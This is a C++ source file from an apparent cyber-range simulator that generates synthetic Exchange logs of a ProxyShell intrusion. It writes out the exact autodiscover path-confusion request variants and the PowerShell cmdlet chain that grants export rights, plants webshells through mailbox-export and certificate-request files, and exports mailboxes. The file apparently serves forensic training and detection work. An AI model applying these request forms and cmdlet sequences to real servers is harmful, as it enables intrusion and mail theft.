#include "range/proxyshell_intruder.h"

#include <fmt/format.h>

#include <array>

#include "range/doors.h"
#include "range/fixtures.h"
#include "range/intruder_events.h"
#include "range/rps_log.h"

namespace afterpatch::range {
namespace {

using std::chrono::milliseconds;

constexpr std::string_view kLetters = "abcdefghijklmnopqrstuvwxyz";
const std::string kPage = "/autodiscover/autodiscover.json";

// "C:\inetpub\x" -> "\\127.0.0.1\C$\inetpub\x"
std::string share_path(const std::string& windows_path, std::string_view host) {
  return fmt::format("\\\\{}\\{}${}", host, windows_path.substr(0, 1), windows_path.substr(2));
}

std::string with_encoded_at(std::string text) {
  const auto at = text.find('@');
  return at == std::string::npos ? text : text.replace(at, 1, "%40");
}

// Address and queries, at the front and at the back, of a request for `page`.
void spell(Request& request, const ProxyShellTool& tool, const std::string& page) {
  const bool encoded = tool.spelling == Spelling::encoded_at;
  const std::string address = encoded ? with_encoded_at(tool.address_part) : tool.address_part;
  request.stem = tool.spelling == Spelling::mixed_case ? "/AutoDiscover/Autodiscover.JSON" : kPage;
  request.backend_query = fmt::format("Email={}%3F{}", request.stem.substr(1), address);
  request.query = fmt::format("{}{}?&{}", address, page, request.backend_query);
  if (tool.spelling == Spelling::in_path) {
    request.stem += "%3F" + address + page;
    request.query = "&" + request.backend_query;
  } else if (tool.spelling == Spelling::cookie) {
    request.query = address + page;
    request.backend_query.clear();
  }
}

}  // namespace

ProxyShellTool make_proxyshell_tool(Random& random) {
  static constexpr std::array<std::string_view, 4> kAgents = {
      "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 "
      "Safari/537.36.",
      "python-requests/2.26.0", "python-requests/2.25.1", "Go-http-client/1.1"};
  static constexpr std::array<std::string_view, 3> kShellAgents = {"Python PSRP Client", "Python PSRP Client",
                                                                   "Microsoft WinRM Client"};
  const std::string domain =
      random.text(kLetters, static_cast<std::size_t>(random.between(3, 8))) + ".example";
  ProxyShellTool tool;
  tool.address_part = (random.chance(70) ? "@" : "a=" + random.text(kLetters, 5) + "@") + domain;
  tool.agent = random.pick(kAgents);
  tool.shell_agent = random.pick(kShellAgents);
  tool.parameter = random.text(kLetters, static_cast<std::size_t>(random.between(4, 10)));
  return tool;
}

// "?<address>/<wanted page>?&Email=autodiscover/autodiscover.json%3F<address>": the front end cuts the page's
// own address out of the wanted one, and forwards the rest as the server itself.
Request ProxyShellIntruder::detour(const std::string& method, const std::string& page, int status) const {
  const Server& server = story_.server;
  Request request;
  request.app = App::autodiscover;
  request.method = method;
  spell(request, tool_, page);
  request.user_agent = tool_.agent;
  request.status = request.backend_status = status;
  request.target_server = server.fqdn;
  request.backend_stem = page;
  request.backend_user = server.netbios + "\\" + server.name + "$";
  return request;
}

// The same with what every request of this client has.
Request ProxyShellIntruder::made(Request request) {
  const Request common = AttackRun::request(request.app, request.method, request.stem);
  request.id = common.id;
  request.host = common.host;
  request.client = common.client;
  request.duration_ms = common.duration_ms;
  request.request_bytes = common.request_bytes;
  request.response_bytes = common.response_bytes;
  return request;
}

void ProxyShellIntruder::check() {
  give(made(detour("GET", "/mapi/nspi/", 200)));
  wait(400, 3000);
}

void ProxyShellIntruder::probe(Timestamp start, bool refused) {
  static constexpr std::array<std::string_view, 4> kPages = {"/mapi/nspi/", "/owa/", "/mapi/emsmdb/",
                                                             "/EWS/exchange.asmx"};
  begin(start);
  const auto looks = random_.between(1, 3);
  for (std::int64_t i = 0; i < looks; ++i) {
    Request request = detour("GET", std::string(random_.pick(kPages)), 200);
    if (refused) {
      request.status = random_.chance(70) ? 401 : 404;
      request.backend_status = 0;
    }
    give(made(std::move(request)));
    wait(300, 4000);
  }
  end_run("probe");
}

// A mailbox's own name in the directory, from autodiscover, then its SID, from the error of the mailbox
// service.
void ProxyShellIntruder::learn_identity() {
  give(made(detour("POST", "/autodiscover/autodiscover.xml", 200)));
  wait(300, 2500);
  give(made(detour("POST", "/mapi/emsmdb/", 200)));
  wait(300, 2500);
}

void ProxyShellIntruder::shell_call(const std::string& method, const std::string& agent) {
  Request request = made(detour(method, "/powershell/", 200));
  const bool first = request.query.find_first_of("?&") == std::string::npos;
  request.query += (first ? "?X-Rps-CAT=" : "&X-Rps-CAT=") + token_;
  request.backend_query =
      "X-Rps-CAT=" + token_ + (request.backend_query.empty() ? "" : "&" + request.backend_query);
  request.user_agent = agent;
  request.shell_user = claimed_user_;
  give(std::move(request));
}

void ProxyShellIntruder::open_shell() {
  const User& administrator = story_.server.administrator();
  const User& other = random_.pick(story_.server.users);
  claimed_user_ = (random_.chance(60) ? other : administrator).address;
  token_ = access_token(claimed_user_, administrator.sid);
  shell_session_ = random_.guid();
  shell_call("GET", tool_.agent);
  wait(600, 4000);
  const auto calls = random_.between(2, 4);
  for (std::int64_t i = 0; i < calls; ++i) {
    shell_call("POST", tool_.shell_agent);
    wait(300, 2500);
  }
}

Timestamp ProxyShellIntruder::cmdlet(const std::string& name, const std::string& parameters) {
  const Timestamp ran = now_ - milliseconds(60);
  record_shell_cmdlet(story_, ran, shell_session_, name, parameters);
  shell_call("POST", tool_.shell_agent);
  wait(3000, 9000);
  return ran;
}

void ProxyShellIntruder::take_export_role() {
  const bool to_group = random_.chance(50);
  cmdlet("New-ManagementRoleAssignment",
         fmt::format("-Role \"Mailbox Import Export\" {}",
                     to_group ? "-SecurityGroup \"Organization Management\""
                              : fmt::format("-User \"{}\"", story_.server.administrator().name)));
}

void ProxyShellIntruder::remove_exports() {
  if (random_.chance(75)) cmdlet("Remove-MailboxExportRequest", "-Confirm \"False\"");
}

// A draft with the script as its attachment is exported to the door's place. Returns when the cmdlet ran.
Timestamp ProxyShellIntruder::export_to(int door) {
  const std::string draft = random_.hex(32);
  const std::string_view host = random_.chance(70) ? "127.0.0.1" : "localhost";
  const Timestamp exported =
      cmdlet("New-MailboxExportRequest",
             fmt::format("-Mailbox \"{}\" -Name \"{}\" -ContentFilter \"Subject -eq '{}'\" -FilePath \"{}\"",
                         random_.pick(story_.server.users).name, draft, draft,
                         share_path(door_plan(door).windows_path, host)));
  note_planting(story_, exported, "New-MailboxExportRequest");
  return exported;
}

int ProxyShellIntruder::plant(Timestamp start) {
  begin(start);
  const int door = new_door(tool_.parameter);
  check();
  learn_identity();
  open_shell();
  take_export_role();
  door_plan(door).planted = export_to(door) + milliseconds(random_.between(2000, 9000));
  for (std::int64_t polls = random_.between(2, 4); polls > 0; --polls) cmdlet("Get-MailboxExportRequest", "");
  remove_exports();
  check_door(door, tool_.agent);
  end_run("write-proven");
  leave_file(door, store_with_script(tool_.parameter, random_));
  return door;
}

// The role was taken before, and the draft is still there.
void ProxyShellIntruder::plant_again(Timestamp start, int door) {
  begin(start);
  check();
  open_shell();
  const Timestamp written = export_to(door) + milliseconds(random_.between(2000, 9000));
  DoorPlan& plan = door_plan(door);
  plan.planted_again = written;
  for (DiskFile& file : story_.files) {
    if (file.tree_path == plan.tree_path && !plan.time_stomped) file.modified = written;
  }
  cmdlet("Get-MailboxExportRequest", "");
  remove_exports();
  check_door(door, tool_.agent);
  end_run("write-proven");
}

int ProxyShellIntruder::plant_by_certificate(Timestamp start) {
  begin(start);
  const int door = new_door(tool_.parameter);
  check();
  learn_identity();
  open_shell();
  const Timestamp written =
      cmdlet("New-ExchangeCertificate",
             fmt::format("-GenerateRequest \"True\" -BinaryEncoded \"True\" -PrivateKeyExportable \"True\" "
                         "-SubjectName \"CN={}\" -RequestFile \"{}\"",
                         random_.text(kLetters, 8), share_path(door_plan(door).windows_path, "localhost")));
  note_planting(story_, written, "New-ExchangeCertificate");
  door_plan(door).planted = written;
  check_door(door, tool_.agent);
  end_run("write-proven");
  leave_file(door, certificate_request_with_script(tool_.parameter, random_));
  return door;
}

void ProxyShellIntruder::export_mailboxes(Timestamp start, std::size_t count) {
  begin(start);
  check();
  learn_identity();
  open_shell();
  take_export_role();
  const auto first = static_cast<std::size_t>(random_.below(story_.server.users.size() - count));
  for (std::size_t i = 0; i < count; ++i) {
    const User& user = story_.server.users[first + i];
    const std::string path = "C:\\ProgramData\\pst\\" + random_.text(kLetters, 6) + ".pst";
    const std::string share = share_path(path, "127.0.0.1");
    const Timestamp exported = cmdlet("New-MailboxExportRequest",
                                      fmt::format("-Mailbox \"{}\" -FilePath \"{}\"", user.address, share));
    story_.mailboxes.push_back({user.address, client_, 1, exported, exported, story_.campaign});
    story_.event_truth.exports.push_back({exported, user.address, share});
    if (!random_.chance(60)) continue;
    story_.files.push_back({"C/ProgramData/pst/" + path.substr(path.rfind('\\') + 1), "mailbox-export",
                            empty_store(random_), exported + std::chrono::minutes(4)});
  }
  remove_exports();
  end_run("session");
}

}  // namespace afterpatch::range
